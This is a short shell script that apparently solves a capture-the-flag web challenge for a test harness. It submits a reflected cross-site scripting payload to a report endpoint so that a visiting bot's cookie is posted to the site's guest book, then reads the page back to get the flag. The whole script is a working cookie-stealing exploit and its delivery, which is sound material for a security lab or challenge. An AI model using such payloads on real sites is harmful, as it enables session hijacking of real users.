#!/bin/sh
# whaley test --solve runs this with URL set, and looks for the flag in what it prints. Without egress the bot reaches nothing
# outside, so a script in the page it looks at signs the guest book with its cookie.
set -e
script='<script>fetch("/sign?text=".concat(encodeURIComponent(document.cookie)))</script>'
curl -fsS -G "$URL/report" --data-urlencode "path=/?name=$script"
curl -fsS "$URL/"
